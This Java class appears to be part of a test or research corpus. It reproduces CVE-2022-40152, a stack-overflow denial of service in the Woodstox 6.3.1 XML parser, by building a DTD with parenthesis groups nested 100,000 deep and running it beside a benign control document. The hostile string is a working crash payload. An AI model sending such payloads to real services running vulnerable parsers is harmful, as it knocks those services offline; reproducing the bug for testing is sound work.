package corpus.woodstox;

import com.ctc.wstx.stax.WstxInputFactory;
import corpus.CorpusDriver;

import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamReader;
import java.io.StringReader;

/**
 * Woodstox 6.3.1, CVE-2022-40152: with DTD support on (the default) an element content model of
 * parenthesis groups nested without limit makes {@code FullDTDReader.readContentSpec} recurse until
 * the stack runs out (fixed in 6.4.0 by a nesting limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = "<!DOCTYPE r [<!ELEMENT r " + CorpusDriver.nested("(", "a", ")", depth) + ">]><r/>";
        CorpusDriver.run("woodstox", WstxInputFactory.class,
                () -> read("<!DOCTYPE doc [<!ELEMENT doc ((a|b),c)>]><doc><a/><c/></doc>"),
                () -> read(hostile));
    }

    /** Reads the document to its end and returns the number of start elements. */
    static int read(String xml) throws Exception {
        XMLInputFactory factory = new WstxInputFactory();
        factory.setProperty(XMLInputFactory.SUPPORT_DTD, true);
        XMLStreamReader reader = factory.createXMLStreamReader(new StringReader(xml));
        int elements = 0;
        while (reader.hasNext()) {
            if (reader.next() == XMLStreamReader.START_ELEMENT) {
                elements++;
            }
        }
        reader.close();
        return elements;
    }
}
